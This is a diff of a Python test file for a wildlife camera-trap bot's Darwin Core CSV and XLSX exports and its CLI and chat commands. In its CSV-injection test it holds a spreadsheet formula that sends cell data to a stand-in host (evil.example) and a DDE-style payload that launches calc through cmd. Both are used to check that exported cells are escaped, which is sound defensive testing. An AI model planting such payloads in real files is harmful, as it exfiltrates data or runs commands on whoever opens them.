@@ -1,38 +1,37 @@
-"""Exports: CSV, GeoJSON, KML and Camtrap DP parse and validate; coordinates rounded unless exact; /export."""
+"""Exports as tables: the Darwin Core CSV (both separators) and XLSX, read back with pandas and openpyxl
+and compared with the database; the CLI and /export. GIS formats: tests/test_exports_gis.py; Camtrap DP:
+tests/test_camtrapdp.py."""
 
 from __future__ import annotations
 
 import argparse
 import asyncio
-import csv
 import io
 import json
 import os
-import socket
-import xml.etree.ElementTree as ET
 import zipfile
 from collections.abc import AsyncIterator
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
-import frictionless
-import jsonschema
+import openpyxl
+import pandas as pd
 import pytest
-from referencing import Registry, Resource
-from referencing.jsonschema import DRAFT4
 
 from bot import export_cli
-from bot.camtrapdp import SCHEMA_DIR, TABLES
-from bot.exports import CSV_COLUMNS, export
+from bot.exports import ExportOptions, export
 from bot.geo import Point, round_point
+from bot.occurrence import DWC_TERMS, EXTRA_COLUMNS
 from storage.db import Database
 from tests.conftest import ADMIN, GROUP
-from tests.test_summaries import BASE, STATIONS, Team, bot_team, seed, sha_for
+from tests.test_summaries import AIGERIM, BASE, SERIK, Team, bot_team, seed
+from tests.validators import table, validate_camtrapdp
 
-__all__ = ["bot_team"]  # the fixture, imported for pytest to find
+__all__ = ["bot_team", "table", "validate_camtrapdp"]  # the fixture for pytest; helpers other tests import
 GRID = 10.0
 MONTH = (BASE - timedelta(days=60), BASE + timedelta(days=7))
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Serik")'
 
 
 @pytest.fixture
@@ -42,176 +41,133 @@ async def db(tmp_path: Path) -> AsyncIterator[Database]:
         yield database
 
 
-async def test_csv_has_the_documented_columns_and_rounds_coordinates(db: Database) -> None:
-    rows = list(
-        csv.DictReader(
-            io.StringIO((await export(db, "csv", *MONTH, exact=False, grid_km=GRID)).decode("utf-8-sig"))
-        )
+async def database_rows(db: Database) -> dict[int, dict[str, Any]]:
+    rows = await db.fetchall(
+        "SELECT s.*, r.name AS ranger FROM sightings s JOIN rangers r ON r.user_id = s.ranger_id"
     )
-    assert tuple(rows[0]) == CSV_COLUMNS
-    by_id = {int(r["id"]): r for r in rows}
-    assert set(by_id) == {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}
-    snapped = round_point(Point(43.25, 51.85), GRID)
-    assert (float(by_id[4]["lat"]), float(by_id[4]["lon"])) == (round(snapped.lat, 4), round(snapped.lon, 4))
-    assert by_id[4]["area"] == "UST" and by_id[4]["station"] == "" and by_id[4]["location_source"] == "pin"
-    assert by_id[7]["lat"] == "" and by_id[7]["area"] == ""
-    assert by_id[1]["ranger"] == "Serik" and by_id[4]["ranger"] == "Aigerim <b>"
-    assert by_id[1]["taken_at_utc"] == "2025-03-04T09:36:00Z" and by_id[1]["status"] == "confirmed"
-    assert (by_id[5]["label"], by_id[5]["is_leopard"]) == ("snow leopard", "0")
-    assert by_id[1]["photo_sha256"] == sha_for(1)
-    exact = list(
-        csv.DictReader(
-            io.StringIO((await export(db, "csv", *MONTH, exact=True, grid_km=GRID)).decode("utf-8-sig"))
-        )
+    return {r["id"]: dict(r) for r in rows}
+
+
+def read_csv(data: bytes, sep: str = ",", decimal: str = ".") -> pd.DataFrame:
+    # Text stays text (a ranger's name, a SHA-256); numbers are parsed by pandas as a user's R/Python would.
+    text = data.decode("utf-8-sig")
+    return pd.read_csv(io.StringIO(text), sep=sep, decimal=decimal, keep_default_na=False, na_values=[""],
+                       dtype={"recordedBy": str, "photo_sha256": str, "eventID": str})  # fmt: skip
+
+
+async def test_csv_is_a_darwin_core_occurrence_table_matching_the_database(db: Database) -> None:
+    frame = read_csv(await export(db, "csv", *MONTH, exact=False, grid_km=GRID))
+    header = list(frame.columns)
+    assert header[: len(DWC_TERMS)] == list(DWC_TERMS)  # Darwin Core terms first, the bot's fields after
+    assert header[len(DWC_TERMS) : len(DWC_TERMS) + len(EXTRA_COLUMNS)] == list(EXTRA_COLUMNS)
+    stored = await database_rows(db)
+    rows = {int(r["sightingID"]): r for r in frame.to_dict("records")}
+    assert set(rows) == set(stored)
+    for sid, r in rows.items():
+        s = stored[sid]
+        assert r["occurrenceID"] == f"obs-{sid}" and r["eventID"] == str(s["event_id"] or sid)
+        assert r["eventDate"] == s["taken_at"].replace("+00:00", "Z")
+        assert r["recordedBy"] == s["ranger"] and r["photo_sha256"] == s["photo_sha256"]
+        assert r["score"] == pytest.approx(s["score"]) and r["is_leopard"] == s["is_leopard"]
+        if s["lat"] is None:
+            assert pd.isna(r["decimalLatitude"]) and pd.isna(r["coordinateUncertaintyInMeters"])
+            continue
+        snapped = round_point(Point(s["lat"], s["lon"]), GRID)
+        assert (r["decimalLatitude"], r["decimalLongitude"]) == (round(snapped.lat, 4), round(snapped.lon, 4))
+        # The rounding is said where Darwin Core has the words for it.
+        assert r["coordinateUncertaintyInMeters"] == 7072 and r["coordinatePrecision"] == 0.09
+        assert r["geodeticDatum"] == "EPSG:4326" and "rounded to a ~10 km grid" in r["dataGeneralizations"]
+    one, four, five, six = rows[1], rows[4], rows[5], rows[6]
+    assert (one["scientificName"], one["taxonID"]) == (
+        "Panthera pardus",
+        "https://www.gbif.org/species/5219436",
     )
-    assert {(r["lat"], r["lon"]) for r in exact if r["id"] == "4"} == {("43.250000", "51.850000")}
+    assert (one["identifiedBy"], one["dateIdentified"], one["occurrenceStatus"]) == (
+        "Aigerim K.", "2025-03-04T14:24:00Z", "present",
+    )  # fmt: skip
+    assert one["basisOfRecord"] == "MachineObservation" and four["basisOfRecord"] == "HumanObservation"
+    assert one["locationID"].startswith("loc-") and pd.isna(one["locality"])  # alias, no station name
+    assert (four["area"], four["location_source"], four["recordedBy"]) == ("UST", "pin", "Aigerim <b>")
+    assert pd.isna(five["scientificName"]) and five["status"] == "rejected"  # "not a leopard"
+    assert pd.isna(six["scientificName"]) and "model label: jackal" in six["identificationRemarks"]
+    assert one["license"] == "CC-BY-4.0"
+    exact = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID))
+    four = exact[exact["sightingID"] == 4].iloc[0]
+    assert (four["decimalLatitude"], four["decimalLongitude"]) == (43.25, 51.85)
+    assert pd.isna(four["coordinateUncertaintyInMeters"]) and pd.isna(four["dataGeneralizations"])
+    assert exact[exact["sightingID"] == 1].iloc[0]["locality"] == "Spring UST-01"
 
 
 async def test_period_bounds_are_half_open(db: Database) -> None:
-    data = await export(db, "csv", BASE, BASE + timedelta(days=7), exact=True, grid_km=GRID)
-    ids = {int(r["id"]) for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
-    assert ids == {1, 2, 3, 4, 5, 6, 7}  # 8 was taken before the week, 9-11 too
+    frame = read_csv(await export(db, "csv", BASE, BASE + timedelta(days=7), exact=True, grid_km=GRID))
+    assert set(frame["sightingID"]) == {1, 2, 3, 4, 5, 6, 7}  # 8 was taken before the week, 9-11 too
 
 
-async def test_geojson_is_rfc7946(db: Database) -> None:
-    doc = json.loads(await export(db, "geojson", *MONTH, exact=True, grid_km=GRID))
-    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == 11
-    by_id = {f["properties"]["id"]: f for f in doc["features"]}
-    assert by_id[4]["geometry"] == {"type": "Point", "coordinates": [51.85, 43.25]}  # lon, lat
-    assert by_id[7]["geometry"] is None
-    assert "lat" not in by_id[4]["properties"] and by_id[4]["properties"]["status"] == "confirmed"
-    rounded = json.loads(await export(db, "geojson", *MONTH, exact=False, grid_km=GRID))
-    lon, lat = next(f for f in rounded["features"] if f["id"] == 4)["geometry"]["coordinates"]
+async def test_csv_cells_never_run_as_formulas(db: Database) -> None:
+    names = {SERIK: FORMULA, AIGERIM: "@SUM(1+1)*cmd|' /C calc'!A0"}
+    for uid, name in names.items():
+        await db.execute("UPDATE rangers SET name = ? WHERE user_id = ?", (name, uid))
+    for sep in (",", ";"):
+        data = await export(
+            db, "csv", *MONTH, exact=False, grid_km=GRID, options=ExportOptions(delimiter=sep)
+        )
+        frame = read_csv(data, sep=sep, decimal="," if sep == ";" else ".")
+        assert set(frame["recordedBy"]) == {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"}
+        cells = [c for line in data.decode("utf-8-sig").splitlines()[1:] for c in line.split(sep)]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+    # Negative numbers are numbers, not text: only text is escaped.
+    await db.execute("UPDATE sightings SET lat = -43.25, lon = -51.85 WHERE id = 4")
+    frame = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID))
+    assert frame[frame["sightingID"] == 4].iloc[0]["decimalLatitude"] == -43.25
+
+
+async def test_semicolon_csv_is_what_excel_reads_under_russian_settings(db: Database) -> None:
+    comma = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID))
+    data = await export(db, "csv", *MONTH, exact=True, grid_km=GRID, options=ExportOptions(delimiter=";"))
+    header = data.decode("utf-8-sig").splitlines()[0]
+    assert header.startswith("occurrenceID;basisOfRecord;eventID;") and "," not in header
+    assert "43,250000;51,850000" in data.decode("utf-8-sig")  # the decimal mark of those settings
+    semi = read_csv(data, sep=";", decimal=",")
+    pd.testing.assert_frame_equal(semi, comma)
+
+
+async def test_xlsx_has_the_same_table_with_typed_cells(db: Database) -> None:
+    await db.execute("UPDATE rangers SET name = ? WHERE user_id = ?", (FORMULA, SERIK))
+    data = await export(db, "xlsx", *MONTH, exact=False, grid_km=GRID)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["occurrences", "about"]
+    sheet = book["occurrences"]
+    header = [c.value for c in sheet[1]]
+    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
+    csv_frame = read_csv(await export(db, "csv", *MONTH, exact=False, grid_km=GRID))
+    assert header == list(csv_frame.columns) and len(rows) == len(csv_frame) == 11
+    by_id = {r["sightingID"]: r for r in rows}
+    stored = await database_rows(db)
     snapped = round_point(Point(43.25, 51.85), GRID)
-    assert (lat, lon) == (round(snapped.lat, 4), round(snapped.lon, 4)) != (43.25, 51.85)
-
-
-async def test_kml_is_kml_2_2_with_a_placemark_per_placed_photo(db: Database) -> None:
-    root = ET.fromstring(await export(db, "kml", *MONTH, exact=False, grid_km=GRID))
-    ns = {"k": "http://www.opengis.net/kml/2.2"}
-    assert root.tag == "{http://www.opengis.net/kml/2.2}kml"
-    marks = root.findall("k:Document/k:Placemark", ns)
-    assert len(marks) == 10  # #7 has no place
-    four = next(m for m in marks if m.get("id") == "s4")
-    lon, lat = map(float, four.findtext("k:Point/k:coordinates", namespaces=ns).split(","))
-    snapped = round_point(Point(43.25, 51.85), GRID)
-    assert (lat, lon) == (round(snapped.lat, 4), round(snapped.lon, 4))
-    assert four.findtext("k:TimeStamp/k:when", namespaces=ns).endswith("Z")
-    assert four.findtext("k:ExtendedData/k:Data[@name='ranger']/k:value", namespaces=ns) == "Aigerim <b>"
-
-
-# --- Camtrap DP -------------------------------------------------------------------------------------------
-
-
-def validate_camtrapdp(data: bytes, folder: Path) -> dict[str, Any]:
-    """Validate offline: datapackage.json against the vendored Camtrap DP 1.0 profile (jsonschema), then
-    the package, its three tables and their foreign keys against the vendored table schemas (frictionless).
-    """
-    with zipfile.ZipFile(io.BytesIO(data)) as zf:
-        assert sorted(zf.namelist()) == [
-            "datapackage.json",
-            "deployments.csv",
-            "media.csv",
-            "observations.csv",
-        ]
-        zf.extractall(folder)
-    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
-    # The 1.0 profile's "#$defs/version" lacks a slash (fixed upstream in 1.0.1, tdwg/camtrap-dp#383).
-    profile = json.loads((SCHEMA_DIR / "camtrap-dp-profile.json").read_text().replace("#$defs/", "#/$defs/"))
-    geojson = json.loads((Path(frictionless.__file__).parent / "assets/profiles/geojson.json").read_text())
-    registry: Registry[Any] = Registry().with_resources(
-        [
-            # The Data Package base profile: frictionless checks those rules below, so it is not fetched.
-            ("https://frictionlessdata.io/schemas/data-package.json", DRAFT4.create_resource({})),
-            ("http://json.schemastore.org/geojson.json", Resource.from_contents(geojson, DRAFT4)),
-        ]
+    assert (by_id[4]["decimalLatitude"], by_id[4]["decimalLongitude"]) == pytest.approx(
+        (snapped.lat, snapped.lon)
     )
-    validator = jsonschema.Draft4Validator(
-        profile, registry=registry, format_checker=jsonschema.FormatChecker()
-    )
-    errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(descriptor)]
-    assert not errors, errors
-    # frictionless: the same descriptor with the remote profile/schema URLs swapped for the vendored files.
-    local = dict(descriptor, resources=[dict(r) for r in descriptor["resources"]])
-    del local["profile"]
-    for resource in local["resources"]:
-        resource["schema"] = json.loads((SCHEMA_DIR / f"{resource['name']}-table-schema.json").read_text())
-    report = frictionless.Package(local, basepath=str(folder)).validate()
-    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
-    return descriptor
+    assert isinstance(by_id[4]["score"], float) and by_id[4]["coordinateUncertaintyInMeters"] == 7072
+    assert by_id[1]["recordedBy"] == FORMULA  # the ranger's name as written...
+    cell = next(c for c in sheet[2 + [r["sightingID"] for r in rows].index(1)] if c.value == FORMULA)
+    assert cell.data_type == "s"  # ...stored as text, never as a formula
+    assert all(by_id[sid]["photo_sha256"] == s["photo_sha256"] for sid, s in stored.items())
+    about = {r[0].value: r[1].value for r in book["about"].iter_rows() if len(r) > 1}
+    assert about["data licence"] == "CC-BY-4.0" and "10 km grid" in about["places"]
 
 
-def table(folder: Path, name: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO((folder / f"{name}.csv").read_text(encoding="utf-8"))))
+async def test_timestamp_issues_are_said_where_the_database_has_them(db: Database) -> None:
+    # Migration 0008's columns: an SD-card file time and a camera whose clock reset.
+    await db.execute("UPDATE sightings SET time_source = 'exif_original'")
+    await db.execute("UPDATE sightings SET time_source = 'import_file_time' WHERE id = 6")
+    await db.execute("UPDATE sightings SET clock_issue = 'reset' WHERE id = 3")
+    frame = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID)).set_index("sightingID")
+    assert frame.loc[6, "eventRemarks"] == "time from import_file_time, not the camera clock"
+    assert frame.loc[3, "eventRemarks"] == "clock issue: reset"
+    assert pd.isna(frame.loc[1, "eventRemarks"]) and frame.loc[6, "time_source"] == "import_file_time"
 
 
-def no_network(*args: object, **kwargs: object) -> None:
-    raise AssertionError("validation tried to reach the network")
-
-
-async def test_camtrapdp_validates_offline(
-    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    data = await export(db, "camtrapdp", *MONTH, exact=False, grid_km=GRID)
-    monkeypatch.setattr(socket.socket, "connect", no_network)
-    descriptor = validate_camtrapdp(data, tmp_path)
-    assert (
-        descriptor["profile"]
-        == "https://raw.githubusercontent.com/tdwg/camtrap-dp/1.0/camtrap-dp-profile.json"
-    )
-    assert [r["name"] for r in descriptor["resources"]] == list(TABLES)
-    assert {t["scientificName"] for t in descriptor["taxonomic"]} == {"Panthera pardus"}
-    assert (
-        descriptor["coordinatePrecision"] == 0.09
-        and "1 photo(s) without any location" in descriptor["description"]
-    )
-    deployments = {d["deploymentID"]: d for d in table(tmp_path, "deployments")}
-    media = {m["mediaID"]: m for m in table(tmp_path, "media")}
-    # Rounded: stations appear under aliases made up for this file (tests/test_untrusted_readers.py).
-    ust01 = deployments[media[sha_for(1)]["deploymentID"]]
-    assert len(deployments) == 4 and "opportunistic-4" in deployments
-    assert ust01["deploymentID"].startswith("loc-") and ust01["locationID"] == ust01["deploymentID"]
-    ust = round_point(Point(*STATIONS["UST-01"][:2]), GRID)
-    assert (float(ust01["latitude"]), float(ust01["longitude"])) == (round(ust.lat, 4), round(ust.lon, 4))
-    assert ust01["coordinateUncertainty"] == "7072" and ust01["locationName"] == ""
-    assert ust01["deploymentGroups"] == "area:UST"
-    assert len(media) == 10 and media[sha_for(1)]["filePublic"] == "false"
-    assert media[sha_for(1)]["filePath"] == f"media/{sha_for(1)[:2]}/{sha_for(1)}.jpg"
-    obs = {o["observationID"]: o for o in table(tmp_path, "observations")}
-    assert (obs["obs-1"]["observationType"], obs["obs-1"]["scientificName"]) == ("animal", "Panthera pardus")
-    assert (obs["obs-1"]["classificationMethod"], obs["obs-1"]["classifiedBy"]) == ("human", "Aigerim K.")
-    assert (
-        obs["obs-2"]["classifiedBy"] == "Aigerim K." and obs["obs-2"]["eventID"] == "1"
-    )  # the burst's review
-    assert (obs["obs-5"]["observationType"], obs["obs-5"]["classificationMethod"]) == ("blank", "human")
-    assert (obs["obs-8"]["classificationMethod"], obs["obs-8"]["classificationProbability"]) == (
-        "machine",
-        "0.9100",
-    )
-    assert (obs["obs-6"]["observationType"], obs["obs-6"]["observationComments"]) == (
-        "unknown",
-        "model label: jackal",
-    )
-
-
-async def test_camtrapdp_exact_and_snow_leopard(db: Database, tmp_path: Path) -> None:
-    await db.execute("UPDATE sightings SET status = 'unreviewed' WHERE id = 5")  # the model's word stands
-    descriptor = validate_camtrapdp(await export(db, "camtrapdp", *MONTH, exact=True, grid_km=GRID), tmp_path)
-    assert "coordinatePrecision" not in descriptor
-    assert {t["scientificName"] for t in descriptor["taxonomic"]} == {"Panthera pardus", "Panthera uncia"}
-    deployments = {d["deploymentID"]: d for d in table(tmp_path, "deployments")}
-    four = deployments["opportunistic-4"]
-    assert (four["latitude"], four["coordinateUncertainty"]) == ("43.250000", "")
-
-
-async def test_camtrapdp_of_an_empty_period_still_validates(tmp_path: Path) -> None:
-    async with Database(tmp_path / "empty.sqlite3") as empty:
-        data = await export(empty, "camtrapdp", BASE, BASE + timedelta(days=1), exact=False, grid_km=GRID)
-    descriptor = validate_camtrapdp(data, tmp_path / "out")
-    assert descriptor["temporal"] == {"start": "2025-03-03", "end": "2025-03-04"}
-
-
-async def test_cli_writes_the_export(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_cli_writes_every_format(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     for key in [k for k in os.environ if k.startswith("LW_")]:
         monkeypatch.delenv(key)
     monkeypatch.setenv("LW_DATABASE", str(db.path))
@@ -219,13 +175,20 @@ async def test_cli_writes_the_export(db: Database, tmp_path: Path, monkeypatch: 
     parser.add_argument("--env-file", default="")
     sub = parser.add_subparsers(dest="command")
     export_cli.add_parser(sub)
+    days = ["--since", "2025-03-03", "--until", "2025-03-09"]
     out = tmp_path / "x.geojson"
-    args = parser.parse_args(
-        ["export", "--format", "geojson", "--since", "2025-03-03", "--until", "2025-03-09", "--out", str(out)]
-    )
+    args = parser.parse_args(["export", "--format", "geojson", *days, "--out", str(out)])
     assert await asyncio.to_thread(export_cli.run, args) == 0  # it runs its own event loop
     ids = {f["id"] for f in json.loads(out.read_bytes())["features"]}
     assert ids == {1, 2, 3, 4, 5, 6, 7}  # 3-9 March in Asia/Aqtau: 2 March 19:00 to 9 March 19:00 UTC
+    xlsx = tmp_path / "x.xlsx"
+    args = parser.parse_args(["export", "--format", "xlsx", *days, "--out", str(xlsx)])
+    assert await asyncio.to_thread(export_cli.run, args) == 0
+    assert openpyxl.load_workbook(xlsx)["occurrences"].max_row == 8  # header + 7 photos
+    semi = tmp_path / "x.csv"
+    args = parser.parse_args(["export", "--format", "csv", "--delimiter", ";", *days, "--out", str(semi)])
+    assert await asyncio.to_thread(export_cli.run, args) == 0
+    assert len(read_csv(semi.read_bytes(), sep=";", decimal=",")) == 7
 
 
 # --- /export through the bot ----------------------------------------------------------------------------
@@ -247,6 +210,15 @@ async def test_export_command_sends_a_document(bot_team: tuple[object, Team]) ->
     assert "exact" in reply["caption"]
     with zipfile.ZipFile(io.BytesIO(team.emu.file_bytes(reply["document"]["file_id"]))) as zf:
         assert "opportunistic-4,,,43.250000,51.850000" in zf.read("deployments.csv").decode()
+    # Excel users: a workbook, and CSV with ";" for Russian and Kazakh settings.
+    reply = await team.say(team.admin, "/export xlsx 2025-03-01 2025-03-09", team.group)
+    assert reply["document"]["file_name"].endswith(".xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(team.emu.file_bytes(reply["document"]["file_id"])))
+    assert book["occurrences"].max_row == 8
+    reply = await team.say(team.admin, "/export csv; 2025-03-01 2025-03-09", team.group)
+    assert reply["document"]["file_name"].endswith(".csv") and "csv" in reply["caption"]
+    semi = read_csv(team.emu.file_bytes(reply["document"]["file_id"]), sep=";", decimal=",")
+    assert len(semi) == 7 and semi["locationID"].dropna().str.startswith("loc-").all()
     # A trusted group gets exact coordinates too.
     await team.services.groups.update(GROUP, trusted=1)
     reply = await team.say(team.admin, "/export", team.group)
